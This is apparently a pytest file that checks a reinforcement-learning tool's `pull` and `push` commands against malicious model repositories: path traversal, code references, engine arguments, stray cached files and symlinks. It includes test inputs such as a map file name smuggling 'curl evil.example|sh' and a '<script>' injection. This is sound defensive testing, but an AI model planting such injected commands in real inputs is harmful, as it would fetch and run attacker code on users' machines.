"""Repositories that a stranger made: what `pull` must not do, whatever they say."""

import dataclasses
import json
import shutil
from pathlib import Path

import pytest
from hub_runs import CONFIG, REPO, pull, push, refused
from huggingface_hub import constants
from places import EXPERIMENTS

from jaxfactory._util.errors import UserError
from jaxfactory.cli import main
from jaxfactory.config import runs
from jaxfactory.sample_factory import convert
from jaxfactory.scenarios import scenario_table
from jaxfactory.scenarios.maps import wad_files


# Would leave a sign if anything imported it.
CODE = "from pathlib import Path\nPath({sign!r}).write_text('was run')\nclass X: ...\n"

pytestmark = pytest.mark.filterwarnings("ignore:Use 'content=:DeprecationWarning")


@pytest.fixture
def code(tmp_path) -> Path:
    """A Python file that is on this machine, and leaves a sign when it is run."""
    sign = tmp_path / "sign"
    file = tmp_path / "x.py"
    file.write_text(CODE.format(sign=str(sign)))
    yield file
    assert not sign.exists(), "a repository's settings ran code"


@pytest.fixture
def repository(server, run):
    """Return a function that publishes the run with changed settings."""
    push(run)
    files = server.files(REPO)

    def publish(section: str = "env", extra: dict | None = None, **changes):
        settings = json.loads(files["config.json"])
        settings[section] = {**settings[section], **changes}
        text = json.dumps(settings).encode()
        server.make(REPO, {**files, "config.json": text, **(extra or {})})

    return publish


def nothing_is_left() -> bool:
    return not list(Path().glob("*new*")) + list(Path().glob(".*new*"))


@pytest.mark.parametrize(
    "scenario",
    [
        "{code}:X",
        "{folder}/x.cfg",
        "os.path:join",
        "gymnasium:{module}:X-v0",
        "gymnasium:x/y/z-v0",
        "gymnasium:../x-v0",
        "scenario/../../x.cfg",
        "scenario/none.cfg",
        "../x.cfg",
        "no_such_scenario",
        "\x1b[2Jx",
        "",
    ],
)
def test_a_repository_names_no_scenario_but_a_built_in_one(
    repository, code, capsys, scenario
):
    scenario = scenario.format(code=code, folder=code.parent, module=code.stem)
    (code.parent / "x.cfg").write_text("available_buttons = { ATTACK }\n")
    # Gymnasium has other settings than Doom, which are refused before the name is.
    repository(scenario=scenario)
    error = refused(capsys, "pull", REPO, "--run", "new")
    assert any(
        words in error
        for words in ("--scenario", "without control characters", "gymnasium")
    )
    assert "\x1b" not in error
    assert nothing_is_left()


@pytest.mark.parametrize("encoder", ["{code}:X", "os.path:join", "own", "./x.py:X"])
def test_a_repository_names_no_encoder_but_a_built_in_one(
    repository, code, capsys, encoder
):
    repository("network", encoder=encoder.format(code=code))
    error = refused(capsys, "pull", REPO, "--run", "new")
    assert "which is never downloaded" in error
    assert "--network FILE.py:Class" in error
    assert nothing_is_left()


ENCODER = """
from flax import nnx
from jaxfactory.models.encoders import Encoder as Ours
class Encoder(Ours): ...
"""


def test_the_user_may_name_their_own_copies(repository, tmp_path):
    (tmp_path / "nets.py").write_text(ENCODER)
    repository("network", encoder="nets.py:Encoder")
    pulled = pull(run=Path("new"), encoder="nets.py:Encoder")
    encoder = runs.load_config(pulled).network.encoder
    assert encoder == f"{tmp_path / 'nets.py'}:Encoder"
    assert main.main(["pull", REPO, "--run", "again", "--network", encoder]) == 0
    # A scenario too, also of another name.
    repository(scenario="mine.py:MAZE")
    pulled = pull(run=Path("third"), scenario="health_gathering")
    assert runs.load_config(pulled).env.scenario == "health_gathering"
    with pytest.raises(UserError, match="there is no scenario named"):
        pull(run=Path("fourth"), scenario="health_gatherin")


@pytest.mark.parametrize(
    "env",
    ["doom_{code}:X", "{code}:X", "doom_{folder}/x.cfg", "doom_os.path:join", "doom_"],
)
def test_an_experiment_of_sample_factory_names_no_code(
    server, code, capsys, tmp_path, env
):
    env = env.format(code=code, folder=code.parent)
    (code.parent / "x.cfg").write_text("available_buttons = { ATTACK }\n")
    files = {
        str(path.relative_to(EXPERIMENTS / "gru")): path.read_bytes()
        for path in (EXPERIMENTS / "gru").rglob("*")
        if path.is_file()
    }
    settings = {**json.loads(files["config.json"]), "env": env}
    server.make("ada/theirs", {**files, "config.json": json.dumps(settings).encode()})
    error = refused(capsys, "pull", "ada/theirs", "--run", "new")
    assert "name one with --scenario" in error or "name it with --scenario" in error
    assert nothing_is_left()
    experiment = tmp_path / "experiment"
    shutil.copytree(EXPERIMENTS / "gru", experiment)
    (experiment / "config.json").write_text(json.dumps(settings))
    with pytest.raises(UserError, match="--scenario"):
        convert.convert(experiment, None, tmp_path / "run")


def own_scenario(name: str, text: str = "") -> dict[str, bytes]:
    """A scenario's files as a repository has them."""
    wheel = wad_files.wheel_scenarios()
    cfg = scenario_table.find("health_gathering_supreme").cfg.read_text()
    cfg = cfg.replace("health_gathering_supreme.wad", "mine.wad")
    return {
        f"scenario/{name}.cfg": (cfg + text).encode(),
        "scenario/mine.wad": (wheel / "health_gathering_supreme.wad").read_bytes(),
    }


def test_a_scenario_that_comes_along_must_be_trusted(repository, capsys):
    extra = own_scenario("maze")
    repository(scenario="scenario/maze.cfg", extra=extra)
    error = refused(capsys, "pull", REPO, "--run", "new")
    assert "maze.cfg (1 KiB), mine.wad (" in error
    assert "--trust-scenario" in error
    assert nothing_is_left()
    command = ["pull", REPO, "--run", "new", "--trust-scenario"]
    assert main.main(command) == 0
    assert "trusted: the repository's own scenario maze.cfg" in capsys.readouterr().out
    scenario = scenario_table.find(runs.load_config(Path("new")).env.scenario)
    assert scenario.cfg == Path("new/scenario/maze.cfg").absolute()
    assert wad_files.find_wad(scenario.load()) == scenario.cfg.with_name("mine.wad")


def test_without_trust_the_built_in_scenario_of_that_name_takes_its_place(
    repository, capsys
):
    repository(
        scenario="scenario/health_gathering_supreme.cfg",
        extra=own_scenario("health_gathering_supreme"),
    )
    assert main.main(["pull", REPO, "--run", "new"]) == 0
    out = capsys.readouterr().out
    assert "note: the repository has a scenario of its own (health_gathering" in out
    assert "this run uses the built-in health_gathering_supreme" in out
    config = runs.load_config(Path("new"))
    assert config.env.scenario == "health_gathering_supreme"
    assert not Path("new/scenario").exists()


def test_a_built_in_scenario_of_other_actions_does_not(repository, capsys):
    # Five choices there, 3 + 3 here.
    repository(scenario="scenario/my_way_home.cfg", extra=own_scenario("my_way_home"))
    error = refused(capsys, "pull", REPO, "--run", "new")
    assert "has other actions than this agent" in error
    assert nothing_is_left()


@pytest.mark.parametrize("words", ["+logfile ../../.bashrc", "+exec x", "-file y.pk3"])
def test_a_trusted_scenario_gives_the_engine_no_orders(repository, capsys, words):
    extra = own_scenario("maze", f"\ngame_args += {words}\n")
    repository(scenario="scenario/maze.cfg", allow_game_args=True, extra=extra)
    error = refused(capsys, "pull", REPO, "--run", "new", "--trust-scenario")
    assert "could make the engine write files" in error
    assert nothing_is_left()


def test_a_trusted_scenario_must_be_whole(repository, capsys):
    extra = {**own_scenario("maze"), "scenario/mine.wad": b"PWAD junk"}
    repository(scenario="scenario/maze.cfg", extra=extra)
    error = refused(capsys, "pull", REPO, "--run", "new", "--trust-scenario")
    assert "is not a map file" in error
    assert nothing_is_left()


def test_settings_of_the_machine_are_not_a_repositorys_affair(repository):
    repository("watch", wandb=True, wandb_entity="mallory", wandb_project="loot")
    watch = runs.load_config(pull(run=Path("new"))).watch
    assert (watch.wandb, watch.wandb_entity) == (False, None)
    assert watch.wandb_project == "jaxfactory"
    repository(allow_game_args=True)
    assert not runs.load_config(pull(run=Path("other"))).env.allow_game_args


def test_only_files_that_are_known_are_copied(server, run):
    push(run)
    # What another program downloaded into the client's cache before.
    extra = {
        "tensorboard/evil.py": b"raise SystemExit", "scenario/evil.so": b"\x7fELF",
        "tensorboard/events.out.tfevents.1.py/x": b"1", "scenario/sub/a.wad": b"PWAD",
        "evil.pth": b"PK", "tensorboard/usercustomize.py": b"raise SystemExit",
    }  # fmt: skip
    server.repos[REPO].add("by hand", {**server.files(REPO), **extra})
    pulled = pull(run=Path("new"))
    (snapshot,) = Path(constants.HF_HUB_CACHE).glob("models--*/snapshots/*")
    for name, content in extra.items():
        path = snapshot / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    again = pull(run=Path("again"))
    for folder in (pulled, again):
        found = {
            str(path.relative_to(folder))
            for path in folder.rglob("*")
            if path.is_file() and "checkpoints" not in path.parts
        }
        assert found == {
            "config.json", "evaluation.json", "evaluation.mp4", "metrics.jsonl",
            "tensorboard/events.out.tfevents.1234567890.0",
            "tensorboard/events.out.tfevents.1234567899.512",
        }  # fmt: skip


def test_a_run_that_was_pulled_is_the_one_that_was_pushed(server, run):
    push(run)
    assert runs.load_config(pull(run=Path("new"))) == CONFIG


def test_a_registered_scenario_is_none_of_a_repositorys(
    repository, capsys, monkeypatch
):
    row = dataclasses.replace(scenario_table.find("basic"), name="mine")
    monkeypatch.setattr(scenario_table, "_REGISTERED", {"mine": (row, "x.py:mine")})
    repository(scenario="mine")
    assert "which is not built in" in refused(capsys, "pull", REPO, "--run", "new")


def test_a_network_larger_than_the_checkpoint_is_never_made(repository, capsys):
    # Some hundreds of gigabytes.
    repository("network", core="lstm", core_size=16384, core_layers=64)
    error = refused(capsys, "pull", REPO, "--run", "new")
    assert "checkpoint does not fit its settings" in error
    assert nothing_is_left()


def test_a_run_that_was_given_as_files_makes_no_larger_network(run, capsys):
    settings = json.loads((run / "config.json").read_text())
    settings["network"] |= {"core": "lstm", "core_size": 16384, "core_layers": 64}
    (run / "config.json").write_text(json.dumps(settings))
    for command in ("evaluate", "train"):
        more = ("--total-frames", "5000000000") if command == "train" else ()
        error = refused(capsys, command, "--run", run, *more)
        assert "does not fit these settings" in error


def test_a_trusted_scenario_names_no_file_of_the_users(repository, tmp_path, capsys):
    secret = tmp_path / "secret.wad"
    shutil.copy(wad_files.wheel_scenarios() / "basic.wad", secret)
    cfg = own_scenario("maze")["scenario/maze.cfg"].decode()
    for name in (str(secret), f"../../{secret.name}"):
        text = cfg.replace("mine.wad", name).encode()
        repository(scenario="scenario/maze.cfg", extra={"scenario/maze.cfg": text})
        command = ("pull", REPO, "--run", tmp_path / "new", "--trust-scenario")
        assert "it cannot be trusted" in refused(capsys, *command)
    assert nothing_is_left()


@pytest.mark.parametrize("scenario", ["scenario/mine.wad", "scenario/x:y.cfg"])
def test_a_scenario_is_a_cfg_file(repository, capsys, scenario):
    extra = own_scenario("maze")
    repository(scenario=scenario, extra=extra)
    error = refused(capsys, "pull", REPO, "--run", "new", "--trust-scenario")
    assert "is not a .cfg file in the repository" in error


def test_flags_that_do_nothing_for_sample_factory_are_refused(server, capsys):
    files = {
        str(path.relative_to(EXPERIMENTS / "gru")): path.read_bytes()
        for path in (EXPERIMENTS / "gru").rglob("*")
        if path.is_file()
    }
    server.make("ada/theirs", files)
    for flags in (["--trust-scenario"], ["--network", "x.py:X"]):
        error = refused(capsys, "pull", "ada/theirs", *flags)
        assert f"leave out {flags[0]}" in error


@pytest.mark.parametrize(
    "map_file",
    [
        {"file": "x.wad; curl evil.example|sh #", "from": "--map", "sha256": ""},
        {"file": "a.wad<script>x", "from": "--map", "sha256": ""},
    ],
)
def test_an_evaluation_puts_no_command_into_the_card(server, run, map_file):
    result = json.loads((run / "evaluation.json").read_text())
    result |= {"map": map_file, "trained_on": [map_file]}
    (run / "evaluation.json").write_text(json.dumps(result))
    push(run)
    card = server.files(REPO)["README.md"].decode()
    assert "; curl" not in card
    assert "|sh" not in card
    assert "<script>" not in card


@pytest.mark.parametrize(
    "changes",
    [
        {"map": {"file": "a.wad", "from": "[x](http://evil)", "sha256": ""}},
        {"map": {"file": "a/b.wad", "from": "vizdoom", "sha256": ""}},
        {"map": {"file": "a.wad", "from": "vizdoom", "sha256": "no"}},
        {"map": {"file": "a.wad", "from": "vizdoom"}},
        {"trained_on": [5]},
        {"map": [], "trained_on": []},
    ],
)
def test_an_evaluations_map_is_one(run, server, capsys, changes):
    result = json.loads((run / "evaluation.json").read_text())
    (run / "evaluation.json").write_text(json.dumps(result | changes))
    assert "evaluation.json cannot be read" in refused(capsys, "push", run, REPO)


def test_an_evaluation_may_say_nothing_of_maps(run, server):
    result = json.loads((run / "evaluation.json").read_text())
    result |= {"map": None, "trained_on": None}
    (run / "evaluation.json").write_text(json.dumps(result))
    push(run)
    assert "Map file" not in server.files(REPO)["README.md"].decode()


def test_push_follows_no_link_out_of_the_run(server, run, tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("private")
    for name in ("metrics.jsonl", "evaluation.mp4"):
        (run / name).unlink()
        (run / name).symlink_to(secret)
    (run / "tensorboard" / "events.out.tfevents.5.x").symlink_to(secret)
    push(run)
    assert not [n for n, text in server.files(REPO).items() if b"private" in text]
